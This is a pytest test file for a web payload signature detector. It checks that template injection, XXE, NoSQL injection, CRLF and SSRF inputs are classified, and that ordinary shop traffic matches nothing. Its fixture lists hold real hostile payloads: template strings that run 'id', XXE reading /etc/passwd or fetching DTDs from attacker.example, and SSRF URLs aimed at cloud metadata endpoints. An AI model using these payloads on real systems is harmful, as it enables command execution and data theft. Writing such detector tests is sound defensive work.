"""Own payload signatures: hand-written payloads of each class are named by their
subkind; ordinary shop traffic (the simulator's trap phrases, prices, JSON, public URLs)
matches nothing; hostile shapes cost milliseconds, not seconds."""

from __future__ import annotations

import time

import pytest

from detectors.payload.classify import FRAGMENT_MAX
from detectors.payload.params import request_params
from detectors.payload.signatures import SIGNATURES, own_signals
from ingest.simulator.catalogue import SEARCH_PHRASES

SSTI = [
    "{{7*7}}",
    "${7*7}",
    "<%= 7*7 %>",
    "#{7*7}",
    "*{7*7}",
    "{{7*'7'}}",
    "${{7*7}}",
    "[[${7*7}]]",
    "@(6+5)",
    "{{config}}",
    "{{ config.items() }}",
    "{{self}}",
    "{% import os %}",
    "{% for c in [].__class__.__base__.__subclasses__() %}{{ c }}{% endfor %}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ request|attr('application') }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "${T(java.lang.Runtime).getRuntime().exec('id')}",
    '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}',
    '#set($rt = $x.class.forName("java.lang.Runtime"))',
    "{{_self.env.registerUndefinedFilterCallback('exec')}}",
    "{{['id']|filter('system')}}",
    "{{constructor.constructor('return process')()}}",
    "<% system('id') %>",
    "{php}echo `id`;{/php}",
    "{$smarty.version}",
    "${self.module.cache.util.os.system('id')}",
    "{{'a'.toUpperCase()}}",
    '${"z".join("ab")}',
    '{{ range.constructor("return global.process")() }}',
    "{% debug %}",
    "<%import os%>${os.system('id')}",
]

XXE = [
    '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',
    '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]><r/>',
    '<!DOCTYPE r SYSTEM "http://attacker.example/x.dtd"><r/>',
    '<!DOCTYPE r PUBLIC "-//A//DTD B//EN" "http://attacker.example/x.dtd"><r/>',
    '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;">]><lolz>&lol2;</lolz>',
    '<r xmlns:xi="http://www.w3.org/2001/XInclude">'
    '<xi:include parse="text" href="file:///etc/passwd"/></r>',
]

NOSQLI_NAMES = [
    ("user[$ne]", "x"),
    ("password[$regex]", ".*"),
    ("username[$gt]", ""),
    ("user.$ne", "null"),
    ("$where", "1"),
    ("filter[$or][0][name]", "a"),
]

NOSQLI_VALUES = [
    '{"$gt": ""}',
    "{$ne: 1}",
    "[$ne]=1",
    "true, $where: '1 == 1'",
    "' || '1'=='1",
    "' && this.password.match(/.*/)//",
    "';return true;var a='",
    "\";return(true);var x='a",
    "';sleep(5000);'",
    "0;return true",
    "db.users.find({})",
    "';it=new Date();do{pt=new Date();}while(pt-it<5000);",
]

CRLF = [
    "\r\nSet-Cookie: sid=evil",
    "/\nLocation: https://evil.example/",
    "x%0d%0aSet-Cookie:crlf=1",  # still encoded after the decoding request_params does
    "x\u560a\u560dSet-Cookie: a=b",  # %E5%98%8A%E5%98%8D decoded
    "x%E5%98%8A%E5%98%8DSet-Cookie:a=b",
    "%u000aSet-Cookie:a=b",
    "\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK",
    "\r\nX-Injected: 1",
    "\r\n\r\n<script>alert(1)</script>",
    "en\r\n\tContent-Type: text/html",
]

SSRF = [
    "http://127.0.0.1/admin",
    "http://localhost:8080/",
    "http://169.254.169.254/latest/meta-data/",
    "http://metadata.google.internal/computeMetadata/v1/",
    "http://100.100.100.200/latest/meta-data/",
    "http://[fd00:ec2::254]/latest/meta-data/",
    "http://10.0.0.5/",
    "http://192.168.1.1/",
    "http://172.16.0.1/",
    "http://0/",
    "http://0.0.0.0:6379/",
    "http://2130706433/",
    "http://0x7f000001/",
    "http://0177.0.0.1/",
    "http://127.1/",
    "http://[::1]/",
    "http://[::ffff:127.0.0.1]/",
    "http://127.0.0.1.nip.io/",
    "http://\u2460\u2461\u2466.\u24ea.\u24ea.\u2460/",  # enclosed digits: 127.0.0.1
    "gopher://evil.example:70/_x",
    "dict://evil.example:11211/stat",
    "file:///etc/passwd",
    "https://shop.example.com@127.0.0.1/",
    "http://127.0.0.1:80@evil.example/",  # the host a lax parser reads
    "//169.254.169.254/",
    "http://redis:6379/",
    "http://db.internal/",
    "https://shop.example.com/redirect?to=http://127.0.0.1/",
    "http://127\u30020\u30020\u30021/",  # ideographic full stops
    "http://[::]:80/",
    "http://169.254.169.254.xip.io/",
]

BENIGN = [
    *SEARCH_PHRASES,
    "men's shoes",
    "select comfort pillow",
    "exec chair",
    "wget tote bag",
    "drop earrings",
    "union jack flag",
    "100% cotton t-shirt",
    "$19.99",
    "$5 - $10",
    "US$ 19.99",
    "$in stock",
    "{",
    "$",
    "{}",
    "{{name}}",
    "Hello {{ user.first_name }}",
    "{{ product.name }} for {{ price }}",
    '{"name": "a"}',
    "${HOME}",
    "50% off {summer} sale",
    "C# {get; set;}",
    "function(x) { return x; }",
    "https://shop.example.com/cart",
    "https://shop.example.com/cart?coupon=SPRING24&ref=mail",
    "https://hooks.partner.example/orders/created",
    "https://8.8.8.8/dns-query",
    "http://93.184.216.34/",
    "ftp://ftp.example.org/pub/file.txt",
    "shopapp://cart",
    "https://ann@shop.example.com/account",
    "https://x-access-token@github.com/acme/shop.git",
    "\\\\fileserver\\share\\report.pdf",
    "//cdn.example.net/img/p/100042.jpg",
    "mailto:ann@example.com",
    "ann+shop@example.com",
    "10:30",
    "2024-01-01T10:00:00Z",
    "c:\\users\\ann\\file.txt",
    "size: 10; color: red",
    "price >= 10 && price <= 20",
    "ring twice; return label enclosed",
    "ordered size 10; return 2 of them",
    "a || b",
    "Pros: light\r\nCons: pricey",
    "Line 1\r\nLine 2",
    "Meet at the lobby\nLocation: back door",
    "=SUM(A1:B2)",
    "<3 gift",
    "<b>bold</b>",
]

JSON_BODIES = [
    '{"user": {"name": "ann", "email": "ann@example.com"}, "items": [{"sku": "A1", "qty": 2}]}',
    '{"total": "$39.98", "note": "leave at door; ring twice", "tags": ["gift", "express"]}',
    '{"$schema": "https://json-schema.org/draft/2020-12/schema", "$ref": "#/defs/a"}',
    '{"webhook": "https://hooks.partner.example/x", "redirect_uri": "https://app.example/cb"}',
    '{"$type": "Shop.Models.Order, Shop", "$id": "1", "lines": [{"$ref": "2"}]}',
]


def subkinds(params: list[tuple[str, str]], body: str = "", content_type: str = "") -> set[str]:
    return {s.subkind for s in own_signals(params, body, content_type)}


@pytest.mark.parametrize("value", SSTI)
def test_template_injection_is_ssti(value: str) -> None:
    assert subkinds([("q", value)]) == {"ssti"}


@pytest.mark.parametrize("document", XXE)
def test_xml_entities_in_a_body_are_xxe(document: str) -> None:
    signals = own_signals([], document, "application/xml")
    assert {s.subkind for s in signals} == {"xxe"}
    assert {(s.variable, s.name) for s in signals} == {("REQUEST_BODY", "")}


@pytest.mark.parametrize("document", XXE)
def test_xml_entities_in_a_value_are_xxe(document: str) -> None:
    assert "xxe" in subkinds([("xml", document)])


@pytest.mark.parametrize(("name", "value"), NOSQLI_NAMES)
def test_operator_names_are_nosqli(name: str, value: str) -> None:
    signals = own_signals([(name, value)], "", "")
    assert [(s.subkind, s.variable, s.name) for s in signals] == [("nosqli", "ARGS_NAMES", name)]
    assert signals[0].matched.startswith("$")


@pytest.mark.parametrize("value", NOSQLI_VALUES)
def test_operator_values_and_javascript_are_nosqli(value: str) -> None:
    assert subkinds([("q", value)]) == {"nosqli"}


@pytest.mark.parametrize("value", CRLF)
def test_a_line_break_and_a_header_is_crlf(value: str) -> None:
    assert subkinds([("lang", value)]) == {"crlf"}


@pytest.mark.parametrize("value", SSRF)
def test_urls_to_internal_hosts_are_ssrf(value: str) -> None:
    assert subkinds([("url", value)]) == {"ssrf"}


@pytest.mark.parametrize("value", BENIGN)
def test_ordinary_values_match_nothing(value: str) -> None:
    assert own_signals([("q", value), ("page", "2")], "", "") == []


@pytest.mark.parametrize("body", JSON_BODIES)
def test_ordinary_json_matches_nothing(body: str) -> None:
    params = request_params("", body, "application/json")
    assert own_signals(params, body, "application/json") == []


@pytest.mark.parametrize(
    "name", ["$schema", "$ref", "$id", "$type", "$filter", "$top", "$select", "$orderby"]
)
def test_dollar_names_that_are_not_mongodb_operators_match_nothing(name: str) -> None:
    assert own_signals([(name, "x")], "", "") == []


def test_a_signal_says_what_matched_where() -> None:
    value = "{{7*7}}" + "x" * 300
    [signal] = own_signals([("q", value)], "", "")
    assert signal.kind == "injection"
    assert (signal.rule_id, signal.subkind, signal.severity) == (990100, "ssti", 2)
    assert (signal.variable, signal.name, signal.matched) == ("ARGS", "q", "{{7*7}}")
    assert signal.fragment == value[:FRAGMENT_MAX]
    assert signal.paranoia_level == 1


def test_one_signal_per_rule_in_rule_order() -> None:
    params = [("url", "http://127.0.0.1/"), ("q", "{{7*7}}"), ("next", "http://localhost/")]
    signals = own_signals(params, "", "")
    assert [(s.rule_id, s.name) for s in signals] == [(990100, "q"), (990500, "url")]


def test_a_json_body_is_read_through_its_pairs_and_its_keys() -> None:
    body = '{"user": {"name": {"$ne": null}}, "password": {"$gt": ""}}'
    params = request_params("", body, "application/json")
    signals = own_signals(params, body, "application/json")
    assert [(s.rule_id, s.variable, s.name) for s in signals] == [
        (990300, "ARGS_NAMES", "user.name.$ne"),
        (990301, "ARGS_NAMES", "password.$gt"),
        (990302, "REQUEST_BODY", ""),  # the key as the body holds it
    ]


def test_a_form_body_is_read_only_through_its_pairs() -> None:
    body = "xml=%3C!DOCTYPE+r+%5B%3C!ENTITY+x+SYSTEM+%22file%3A%2F%2F%2Fetc%2Fpasswd%22%3E%5D%3E"
    assert own_signals([], body, "application/x-www-form-urlencoded") == []
    params = request_params("", body, "application/x-www-form-urlencoded")
    assert subkinds(params, body, "application/x-www-form-urlencoded") == {"xxe", "ssrf"}


def test_a_native_apps_loopback_redirect_uri_is_not_ssrf() -> None:
    assert own_signals([("redirect_uri", "http://127.0.0.1:51004/callback")], "", "") == []
    assert subkinds([("redirect_uri", "http://169.254.169.254/")]) == {"ssrf"}
    assert subkinds([("redirect_uri", "http://2130706433/")]) == {"ssrf"}


@pytest.mark.parametrize(
    "document",
    [
        '<?xml version="1.0"?><order><id>12</id><note>&amp; more</note></order>',
        '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" '
        '"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd"><html/>',
        '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
        '"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><svg/>',
        '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">'
        '<xsl:include href="common.xsl"/></xsl:stylesheet>',
        '<soap:Envelope xmlns:soap="http://www.w3.org/2003/05/soap-envelope"><soap:Body/>'
        "</soap:Envelope>",
    ],
)
def test_ordinary_xml_matches_nothing(document: str) -> None:
    assert own_signals([], document, "application/xml") == []


def test_a_lookup_string_is_not_a_fetch_scheme() -> None:
    assert own_signals([("q", "${jndi:ldap://evil.example/a}")], "", "") == []


@pytest.mark.parametrize(
    ("url", "rule_ids"),
    [
        ("http://127.0.0.1/", {990500}),
        ("http://0x7f.1/", {990500, 990504}),
        ("http://[::ffff:a9fe:a9fe]/", {990501, 990504}),  # 169.254.169.254
        ("http://3627734734/", {990505}),  # a public address, written to pass a filter
        ("\\\\10.0.0.5\\share", {990502}),
    ],
)
def test_an_obfuscated_address_is_named_as_such(url: str, rule_ids: set[int]) -> None:
    assert {s.rule_id for s in own_signals([("u", url)], "", "")} == rule_ids


def test_rules_are_numbered_by_class() -> None:
    blocks = {1: "ssti", 2: "xxe", 3: "nosqli", 4: "crlf", 5: "ssrf"}
    ids = [s.rule_id for s in SIGNATURES]
    assert ids == sorted(set(ids))
    for signature in SIGNATURES:
        assert 990100 <= signature.rule_id <= 990599
        assert signature.subkind == blocks[signature.rule_id // 100 % 10]
        assert signature.severity in (2, 3)


@pytest.mark.parametrize(
    "text",
    [
        "{{" * 2048,
        "{{ " * 1365,
        "${" * 2048,
        "<%" * 2048,
        "{% " * 1365,
        "$" * 4096,
        "[$ne" * 1024,
        "'||" * 1365,
        "';" * 2048,
        "\r\n" * 2048,
        "%0d%0a" * 682,
        "http://" * 585,
        "http://" + "1." * 2000,
        "<!ENTITY " * 455,
        ":include " * 455,
    ],
    ids=lambda text: repr(text[:6]),
)
def test_hostile_shapes_cost_milliseconds(text: str) -> None:
    start = time.process_time()
    own_signals([("q", text), (text, "x")], "", "")
    own_signals([], text * 16, "application/xml")
    own_signals([], text * 16, "application/json")
    assert time.process_time() - start < 1.0  # quadratic backtracking takes seconds
